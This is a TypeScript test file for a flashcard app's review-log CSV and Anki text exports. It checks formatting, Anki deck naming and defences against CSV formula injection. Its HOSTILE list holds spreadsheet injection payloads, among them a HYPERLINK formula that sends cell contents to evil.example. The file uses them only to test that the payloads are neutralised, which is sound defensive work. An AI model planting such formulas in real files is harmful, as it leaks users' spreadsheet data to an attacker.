import { describe, expect, it } from 'vitest';
import type { Card } from '$lib/notes/types';
import { ANKI_HEADER, ankiLines, REVIEW_CSV_HEADER, reviewCsvLines } from './csv';
import * as anki from './anki-import.testing';
import { review, T0 } from './testing';

describe('review log CSV', () => {
	it('writes one line per review with ISO times and quoted decks', () => {
		const rows = [
			review('r1', 'card-a', T0, { stateBefore: 0, rating: 1, elapsedDays: 0, scheduledDays: 0, durationMs: 2500 }),
			review('r2', 'card-b', T0 + 1000)
		];
		const text = REVIEW_CSV_HEADER + reviewCsvLines(rows, (row) => (row.cardId === 'card-a' ? 'K8s::Service "types", part 1' : 'Logs'));
		expect(text.split('\r\n')).toEqual([
			'card_id,deck,review_time,rating,state,elapsed_days,scheduled_days,duration_ms',
			'card-a,"K8s::Service ""types"", part 1",2025-03-10T12:00:00.000Z,1,new,0,0,2500',
			'card-b,Logs,2025-03-10T12:00:01.000Z,3,review,2,5,3000',
			''
		]);
	});
});

describe('Anki text export', () => {
	const card = (id: string, front: string, back: string): Card => ({
		id,
		deckId: 'd',
		front,
		back,
		frontText: front,
		backText: back,
		source: { file: 'infra monitoring.md', line: 3 },
		tableId: 't',
		rowKey: front,
		column: 'c',
		direction: 'forward'
	});

	it('has the header lines Anki reads and one note per line', () => {
		const text =
			ANKI_HEADER +
			ankiLines([card('c1', '<strong>Pod</strong>', '가장 작은 단위'), card('c2', '<a href="x">Link</a>', 'a\nb')], () => [
				'인프라',
				'K8s::Core',
				'Pod'
			]);
		const lines = text.split('\n');
		expect(lines.slice(0, 6)).toEqual([
			'#separator:tab',
			'#html:true',
			'#notetype:Basic',
			'#deck column:3',
			'#tags column:4',
			'#guid column:5'
		]);
		expect(lines[6].split('\t')).toEqual([
			'<strong>Pod</strong>',
			'가장 작은 단위',
			'인프라::K8s:Core::Pod',
			'tabledeck::infra_monitoring',
			'c1'
		]);
		expect(lines[7]).toBe('"<a href=""x"">Link</a>"\ta<br>b\t인프라::K8s:Core::Pod\ttabledeck::infra_monitoring\tc2');
		expect(lines).toHaveLength(9);
	});
});

/** RFC 4180 records, as a spreadsheet splits them (quoted fields may hold separators and line breaks). */
function parseDelimited(text: string, separator: string, lineEnd: string): string[][] {
	const records: string[][] = [];
	let fields: string[] = [];
	let i = 0;
	while (i < text.length) {
		let field = '';
		if (text[i] === '"') {
			i++;
			for (;;) {
				const quote = text.indexOf('"', i);
				field += text.slice(i, quote);
				i = quote + 1;
				if (text[i] !== '"') break;
				field += '"';
				i++;
			}
		} else {
			const ends = [text.indexOf(separator, i), text.indexOf(lineEnd, i)].filter((at) => at >= 0);
			const end = Math.min(...ends);
			field = text.slice(i, end);
			i = end;
		}
		fields.push(field);
		if (text.startsWith(separator, i)) i += separator.length;
		else if (text.startsWith(lineEnd, i)) {
			i += lineEnd.length;
			records.push(fields);
			fields = [];
		}
	}
	return records;
}

/** Every way a spreadsheet could read a cell as a formula, and text that must survive as it is. */
const HOSTILE = [
	'=HYPERLINK("http://evil.example/?"&A1,"Click")',
	'+1+1',
	'-2+3',
	'@SUM(A1:A9)',
	'\tTab',
	'\rCR',
	'\0nul',
	'=1,2\r\n"quoted"',
	'plain, "quoted"\nline',
	'서비스 타입',
	'',
	"'already"
];
const FORMULA = /^[=+\-@\t\r\0]/;
/** The one documented change: a leading apostrophe before a formula character. */
const exported = (text: string) => (FORMULA.test(text) ? `'${text}` : text);

describe('exports are safe to open in a spreadsheet (CSV injection)', () => {
	it('the review log CSV: every field reads back as the text it was, none as a formula', () => {
		const rows = HOSTILE.map((deck, i) => review(`r${i}`, `-card${i}`, T0 + i, { durationMs: i }));
		const text = REVIEW_CSV_HEADER + reviewCsvLines(rows, (row) => HOSTILE[Number(row.id.slice(1))]);
		const records = parseDelimited(text, ',', '\r\n');
		expect(records).toHaveLength(HOSTILE.length + 1);
		HOSTILE.forEach((deck, i) => {
			expect(records[i + 1]).toEqual([
				exported(`-card${i}`),
				exported(deck),
				new Date(T0 + i).toISOString(),
				'3',
				'review',
				'2',
				'5',
				String(i)
			]);
		});
		expect(records.flat().filter((field) => FORMULA.test(field))).toEqual([]);
		expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`);
	});

	it('a review log row holding values no rating writes still exports, as text', () => {
		const odd = review('odd', 'c', 8.64e15 + 1, { rating: '=1+1' as never, stateBefore: 9 as never });
		const [record] = parseDelimited(
			reviewCsvLines([odd], () => 'd'),
			',',
			'\r\n'
		);
		expect(record.slice(0, 5)).toEqual(['c', 'd', '8640000000000001', "'=1+1", '9']);
	});

	it('the Anki text: plain fields get the apostrophe, HTML fields a character reference that Anki shows as before', () => {
		const cards: Card[] = HOSTILE.map((text, i) => ({
			id: `c${i}`,
			deckId: `d${i}`,
			front: text,
			back: `-${text}`,
			frontText: text,
			backText: text,
			source: { file: '=notes.md', line: 1 },
			tableId: 't',
			rowKey: text,
			column: 'c',
			direction: 'forward'
		}));
		const text = ankiLines(cards, (deckId) => [HOSTILE[Number(deckId.slice(1))]]);
		const records = parseDelimited(text, '\t', '\n');
		expect(records).toHaveLength(HOSTILE.length);
		const fromReference = (field: string) => field.replace(/^&#(\d+);/, (_, code) => String.fromCharCode(Number(code)));
		HOSTILE.forEach((value, i) => {
			const html = (s: string) => s.replace(/\r?\n/g, '<br>');
			const [front, back, deck, tag, guid] = records[i];
			expect([fromReference(front), fromReference(back)]).toEqual([html(value), html(`-${value}`)]);
			expect(FORMULA.test(deck)).toBe(false);
			expect([anki.storedName(deck), tag, guid]).toEqual([deck, 'tabledeck::=notes', `c${i}`]);
		});
		expect(records.flat().filter((field) => FORMULA.test(field))).toEqual([]);
	});
});

describe('Anki reads the export as written (the rules of its text importer)', () => {
	let n = 0;
	const card = (front: string, deckId = 'd', back = `back of ${front}`): Card => ({
		id: `c${n++}`,
		deckId,
		front,
		back,
		frontText: front,
		backText: back,
		source: { file: 'notes.md', line: 1 },
		tableId: 't',
		rowKey: front,
		column: 'c',
		direction: 'forward'
	});
	const exportOf = (cards: Card[], paths: Record<string, string[]> = { d: ['Notes', 'Table'] }) =>
		ANKI_HEADER + ankiLines(cards, (deckId) => paths[deckId]);

	it('a card whose front starts with # is a card, not a comment line', () => {
		const cards = [card('#include'), card('# 제목'), card('plain'), card('#')];
		const { notes } = anki.importText(exportOf(cards));
		expect(notes.map((note) => note.fields)).toEqual(cards.map((c) => [c.front, c.back]));
	});

	it('decks whose levels start or end with spaces or colons get one deck each, named as Anki stores them', () => {
		const paths = { a: ['정리:', '서비스'], b: [' 정리 ', ' 서비스 '], c: ['Q:', ':A', 'B: '], d: ['Ｆｕｌｌ', 'e\u0301'] };
		const cards = Object.keys(paths).flatMap((deckId) => [
			card(`${deckId}1`, deckId),
			card(`${deckId}2`, deckId),
			card(`${deckId}3`, deckId)
		]);
		const { notes, decks } = anki.importText(exportOf(cards, paths));
		expect(notes).toHaveLength(cards.length);
		expect(decks.sort()).toEqual(['Q::A::B', '정리::서비스', 'Ｆｕｌｌ::\u00e9']);
		const deckOfCard = new Map(cards.map((c) => [c.id, c.deckId]));
		for (const [deckId, path] of Object.entries(paths)) {
			const decksOfPath = new Set(notes.filter((note) => deckOfCard.get(note.guid) === deckId).map((note) => note.deck));
			expect(decksOfPath.size).toBe(1);
			expect([...decksOfPath][0].split('::')).toHaveLength(path.length);
		}
	});

	it('a heading with ::: or :: inside stays one level', () => {
		const paths = { a: ['A:::B', 'x::y', '::'] };
		const { notes, decks } = anki.importText(exportOf([card('one', 'a'), card('two', 'a')], paths));
		expect(notes).toHaveLength(2);
		expect(decks).toEqual(['A:B::x:y::blank']);
	});

	it('an all-number deck name is not read as a deck id (such a card was dropped)', () => {
		const paths = { a: ['2024'], b: ['-7'], c: ['2024', '1'] };
		const cards = [card('one', 'a'), card('two', 'a'), card('three', 'b'), card('four', 'c')];
		const { notes, decks, dropped } = anki.importText(exportOf(cards, paths));
		expect(dropped).toEqual([]);
		expect(notes.map((note) => note.deck)).toEqual(['#2024', '#2024', '#-7', '2024::1']);
		expect(decks.sort()).toEqual(['#-7', '#2024', '2024::1']);
	});

	it('fronts and backs arrive in Anki in a language whose Basic note type has other names', () => {
		const cards = [card('Pod', 'd', '가장 작은 단위'), card('Service', 'd', '파드 묶음')];
		for (const notetype of anki.BASIC_NOTETYPES) {
			const { notes } = anki.importText(exportOf(cards), notetype);
			expect(notes.map((note) => note.fields)).toEqual([
				['Pod', '가장 작은 단위'],
				['Service', '파드 묶음']
			]);
		}
	});

	it('importing the same export again adds nothing and updates an edited back in place', () => {
		const cards = [card('Pod'), card('Service')];
		const first = anki.importText(exportOf(cards));
		const edited = [{ ...cards[0], back: 'edited' }, cards[1]];
		const second = anki.importText(exportOf(edited), anki.BASIC_NOTETYPES[0], first);
		expect(second.notes.map((note) => note.fields)).toEqual([
			['Pod', 'edited'],
			['Service', 'back of Service']
		]);
		expect(second.decks).toEqual(first.decks);
	});
});
